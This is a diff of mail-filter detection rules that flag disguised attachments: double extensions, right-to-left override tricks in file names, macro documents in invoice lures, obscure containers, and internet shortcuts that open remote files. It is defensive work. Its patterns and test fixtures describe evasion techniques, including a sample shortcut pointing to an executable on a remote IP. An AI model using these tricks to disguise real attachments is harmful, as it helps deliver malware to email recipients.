@@ -77,36 +77,78 @@ rule "ARCHIVE_OF_ONE_SCRIPT" {
   },
 }
 
--- "invoice.pdf.exe", "invoice.pdf            .exe": Windows hides the last extension, and the screen cuts long names.
+-- "invoice.pdf.exe", "invoice.pdf            .exe": Windows hides the last extension, and the screen cuts long names. What may
+-- stand last is what runs or opens a page when it is clicked: "offer.v2.pdf" and "archive.tar.gz" end as they should. In archives
+-- of many files (sources, saved sites) pages are called so honestly ("logo.png.html"), so there only programs count.
+local PRETENDS = "(?i)\\.(?:pdf|docx?|odt|xlsx?|csv|pptx?|rtf|txt|eml|msg|jpe?g|png|gif|tiff?|bmp|heic|webp|mp[34]|m4a|wav|avi|mov|zip)"
+  .. "[\\s_\\x{A0}\\x{2000}-\\x{200B}\\x{202F}\\x{2800}\\x{3000}]*\\."
+local ENDS_AS_PROGRAM = PRETENDS .. "(?:exe|scr|com|pif|cpl|bat|cmd|vbs|vbe|jse|wsf|wsh|hta|lnk|msi|ps1|jar|iso|img|vhdx?)\\s*$"
+local ENDS_AS_PAGE = PRETENDS .. "(?:js|s?html?|xht(?:ml)?|mht(?:ml)?|svgz?|url)\\s*$"
+
 rule "DOUBLE_EXTENSION" {
   about = "the name of a file pretends to be a document and ends as a program or a web page",
   score = 4.0,
   group = "attachments",
-  attachment = "(?i)\\.(?:pdf|docx?|xlsx?|pptx?|rtf|txt|jpe?g|png|gif|mp[34]|wav|zip)[\\s_]*\\."
-    .. "(?:exe|scr|com|pif|cpl|bat|cmd|vbs|vbe|js|jse|wsf|hta|lnk|s?html?|svg|iso|img)\\s*$",
+  when = function(mail)
+    for _, file in ipairs(mail.attachments) do
+      if file.name:match(ENDS_AS_PROGRAM) or file.name:match(ENDS_AS_PAGE) then return true, file.name end
+      for _, name in ipairs(file.names) do
+        if name:match(ENDS_AS_PROGRAM) or (#file.names <= 3 and name:match(ENDS_AS_PAGE)) then return true, name end
+      end
+    end
+    return false
+  end,
   examples = {
     {
-      hit = true, detail = ".pdf.html",
+      hit = true, detail = "Invoice.pdf.html",
       attachments = { { name = "Invoice.pdf.html", type = "text/html", content = "<b>hello</b>" } },
     },
+    { hit = true, attachments = { { name = "invoice.pdf.exe", content = "x" } } },
+    { hit = true, attachments = { { name = "scan.jpg.svg", content = "x" } } },
+    { hit = true, attachments = { { name = "photo.png.js", content = "x" } } },
     { hit = true, attachments = { { name = "a.doc            .exe", content = "x" } } },
-    { hit = false, attachments = { { name = "a.tar.gz", type = "application/gzip", content = "x" } } },
+    { hit = true, attachments = { { name = "a.zip", names = { "PO.xlsx.js" } } }, detail = "PO.xlsx.js" },
+    { hit = false, attachments = { { name = "site.zip", names = { "a.html", "b.html", "c.css", "logo.png.html" } } } },
+    { hit = false, attachments = { { name = "offer.v2.pdf", content = "x" }, { name = "minutes.2026.11.pdf", content = "x" } } },
+    { hit = false, attachments = { { name = "logo.ai.pdf", content = "x" }, { name = "report.docx.pdf", content = "x" } } },
+    { hit = false, attachments = { { name = "archive.tar.gz", type = "application/gzip", content = "x" } } },
     { hit = false, attachments = { { name = "notes.html.txt", type = "text/plain", content = "x" } } },
   },
 }
 
--- U+202E and its like turn "exe.fdp" round on the screen (Unicode TR 36, 3.3). No honest name needs them.
+-- U+202E turns Latin letters round on the screen, so that "exe.fdp" is read as "pdf.exe" (Unicode TR 36, 3.3). Hebrew and Arabic
+-- names hold other signs of direction honestly: systems put them around a name so that a number or ".pdf" in it stays in its place
+-- (UAX 9, 2.1 to 2.4). Those change how an extension is read only in a name that has no such letter.
+local TURNS_LETTERS = "\\x{202E}[^\\x{202C}]*[A-Za-z0-9]{2}"
+local TURNS_ORDER = "[\\x{202B}\\x{2067}].*[A-Za-z0-9]"
+local WRITTEN_FROM_RIGHT = "[\\p{Hebrew}\\p{Arabic}\\p{Syriac}\\p{Thaana}\\p{Nko}]"
+
 rule "NAME_TURNED_ROUND" {
   about = "the name of a file holds characters that turn its direction, so that it shows another extension",
   score = 5.0,
   group = "attachments",
-  attachment = "[\\x{202A}-\\x{202E}\\x{2066}-\\x{2069}]",
+  when = function(mail)
+    local function turned(name)
+      return name:match(TURNS_LETTERS) or (name:match(TURNS_ORDER) and not name:match(WRITTEN_FROM_RIGHT))
+    end
+    for _, file in ipairs(mail.attachments) do
+      if turned(file.name) then return true, file.name end
+      for _, name in ipairs(file.names) do
+        if turned(name) then return true, name end
+      end
+    end
+    return false
+  end,
   examples = {
     {
       hit = true,
       message = "Content-Type: application/x; name*=utf-8''invoice%E2%80%AEfdp.exe\nContent-Disposition: attachment\n\nx\n",
     },
-    { hit = false, attachments = { { name = "חשבון.pdf", content = "x" } } },
+    { hit = true, attachments = { { name = "a.zip", names = { "חשבון\u{202E}fdp.exe" } } } },
+    { hit = true, attachments = { { name = "photo\u{2067}\u{2066}.gpj\u{2069}\u{2066}exe\u{2069}", content = "x" } } },
+    { hit = false, attachments = { { name = "חשבון.pdf", content = "x" }, { name = "\u{202B}הצעת מחיר 2026\u{202C}.pdf", content = "x" } } },
+    { hit = false, attachments = { { name = "\u{2067}تقرير\u{2069} 2026.docx", content = "x" } } },
+    { hit = false, attachments = { { name = "\u{202A}Report 2026.pdf\u{202C}", content = "x" } } },
   },
 }
 
@@ -201,9 +243,11 @@ rule "ENCRYPTED_ARCHIVE_WITH_PASSWORD" {
   },
 }
 
+-- One sign, counted once: a document that says by its name that it can run macros is the first rule's matter, one that hides them
+-- under another name the second's. Offices send each other such tables every day, so the first weighs less than half of what marks.
 rule "MACRO_BY_NAME" {
   about = "a document that can run macros is attached, by its name",
-  score = 2.5,
+  score = 2.0,
   group = "attachments",
   attachment = "(?i)\\.(?:docm|dotm|xlsm|xlsb|xltm|xlam|pptm|potm|ppsm|ppam|sldm)\\s*$",
   examples = {
@@ -212,27 +256,51 @@ rule "MACRO_BY_NAME" {
   },
 }
 
--- Documents since Office 2007 are ZIP archives; macros are a file in them, also where the document is renamed to .docx.
+-- Documents since Office 2007 are ZIP archives; macros are a file in them.
 rule "MACRO_INSIDE" {
-  about = "an attached document holds macros",
-  score = 2.0,
+  about = "an attached document holds macros, and its name says that it has none",
+  score = 3.0,
   group = "attachments",
-  attachment = "(?i)(?:^|/)vbaProject\\.bin$",
+  when = function(mail)
+    return find(mail, function(file)
+      if not file.extension:match("^(?:do[ct]x?|xl[st]x?|p[op][ts]x?|rtf)$") then return false end
+      for _, name in ipairs(file.names) do
+        if name:match("(?i)(?:^|/)vbaProject\\.bin$") then return true end
+      end
+      return false
+    end)
+  end,
   examples = {
-    { hit = true, attachments = { { name = "a.doc", names = { "word/vbaProject.bin" } } } },
+    { hit = true, attachments = { { name = "a.doc", names = { "word/vbaProject.bin" } } }, detail = "a.doc" },
+    { hit = true, attachments = { { name = "a.xlsx", names = { "xl/workbook.xml", "xl/vbaProject.bin" } } } },
+    { hit = false, attachments = { { name = "Quotation.xlsm", names = { "xl/workbook.xml", "xl/vbaProject.bin" } } } },
+    { hit = false, attachments = { { name = "a.docx", names = { "word/document.xml" } } } },
     { hit = false, attachments = { { name = "vbaProject.bin.txt", type = "application/x", content = "x" } } },
   },
 }
 
+-- "The invoice is attached" is what every office writes, so it weighs little; who writes it from a free mailbox has no office.
 rule "MACRO_DOCUMENT" {
-  about = "a document with macros is attached to a message about a payment",
-  score = 2.0,
+  about = "a file that can do harm is attached to a message about a payment",
+  score = 0.7,
   group = "attachments",
   expression = "INVOICE_LURE and (MACRO_BY_NAME or MACRO_INSIDE or ENCRYPTED_ARCHIVE or HTML_ATTACHED)",
   examples = {
     { hit = true, hits = { "INVOICE_LURE", "MACRO_INSIDE" } },
     { hit = false, hits = { "INVOICE_LURE" } },
     { hit = false, hits = { "MACRO_BY_NAME", "MACRO_INSIDE" } },
+  },
+}
+
+rule "MACRO_DOCUMENT_FROM_STRANGER" {
+  about = "a file that can do harm is attached to a message about a payment, from a free mailbox or with the answer going there",
+  score = 2.0,
+  group = "attachments",
+  expression = "MACRO_DOCUMENT and (FROM_FREEMAIL or REPLY_TO_FREEMAIL or REPLY_TO_SECOND_MAILBOX) and not CONVERSATION",
+  examples = {
+    { hit = true, hits = { "MACRO_DOCUMENT", "FROM_FREEMAIL" } },
+    { hit = false, hits = { "MACRO_DOCUMENT" } },
+    { hit = false, hits = { "MACRO_DOCUMENT", "FROM_FREEMAIL", "CONVERSATION" } },
   },
 }
 
@@ -256,12 +324,39 @@ rule "DISK_IMAGE" {
 -- Formats that nobody has used for decades but to get past filters that cannot read them; and OneNote, whose pages hold files.
 rule "ODD_CONTAINER" {
   about = "a file of a kind is attached that is hardly used but to hide something",
-  score = 3.0,
+  score = 2.5,
   group = "attachments",
-  attachment = "(?i)\\.(?:ace|arj|lzh|lha|uue|xxe|cab|wim|one|r0[0-9]|z0[0-9]|slk|iqy|library-ms|search-ms|url|website)\\s*$",
+  attachment = "(?i)\\.(?:ace|arj|lzh|lha|uue|xxe|cab|wim|one|r0[0-9]|z0[0-9]|slk|iqy|library-ms|search-ms)\\s*$",
   examples = {
     { hit = true, attachments = { { name = "Order.ace", type = "application/x", content = "x" } } },
     { hit = false, attachments = { { name = "ace.zip", type = "application/x", content = "x" } } },
+    -- What a browser saves when a link is drawn to the desk; people send each other that.
+    { hit = false, attachments = { { name = "Portal.url", type = "application/x", content = "x" } } },
+  },
+}
+
+-- A shortcut to a page is harmless, one to a file runs what lies on somebody else's server: "URL=file:" in plain text, and as
+-- base64 at each of the three places that it can begin.
+rule "SHORTCUT_TO_FILE" {
+  about = "a shortcut is attached that opens a file on another server",
+  score = 4.0,
+  group = "attachments",
+  when = function(mail)
+    local found, name = find(mail, function(file) return file.extension == "url" or file.extension == "website" end)
+    if not found then return false end
+    return mail:match("(?i)\\bURL=(?:3D)?(?:file:|\\\\\\\\)") ~= nil or mail:match("VVJMPWZpbGU6|VSTD1maWxlO|VUkw9ZmlsZT") ~= nil,
+      name
+  end,
+  examples = {
+    {
+      hit = true, detail = "Invoice.url",
+      attachments = { { name = "Invoice.url", type = "text/plain", content = "[InternetShortcut]\nURL=file://198.51.100.7/s/a.exe\n" } },
+    },
+    {
+      hit = false,
+      attachments = { { name = "Portal.url", type = "text/plain", content = "[InternetShortcut]\nURL=https://www.example.org/\n" } },
+    },
+    { hit = false, text = "URL=file://server/share" },
   },
 }
 
